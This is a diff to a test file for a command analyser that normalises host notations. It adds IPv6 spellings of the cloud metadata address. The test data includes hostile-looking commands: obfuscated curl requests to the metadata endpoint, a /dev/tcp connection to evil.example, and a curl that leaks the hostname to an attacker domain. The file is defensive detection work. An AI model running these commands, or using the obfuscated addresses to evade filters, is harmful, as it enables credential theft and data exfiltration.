@@ -52,8 +52,11 @@ test('hosts are told in one notation', () => {
     '0251.0376.0251.0376',
     '169.254.43518',
     '[::ffff:169.254.169.254]',
+    '[::FFFF:a9fe:a9fe]',
+    '[0:0:0:0:0:ffff:a9fe:a9fe]',
   ])
     expectFacts(`curl http://${host}/latest`, { hosts: ['curl 169.254.169.254'] })
+  expectFacts('curl http://[FD00:0EC2:0::0254]/', { hosts: ['curl fd00:ec2::254'] })
   expectFacts('cat < /dev/tcp/Evil.Example./80', { hosts: ['< evil.example'], network: true })
   expectFacts('curl "https://$(hostname).evil.example/"', { hosts: ['curl *'] })
   expectFacts('scp key ops@web1:/tmp/', { hosts: ['scp web1'] })
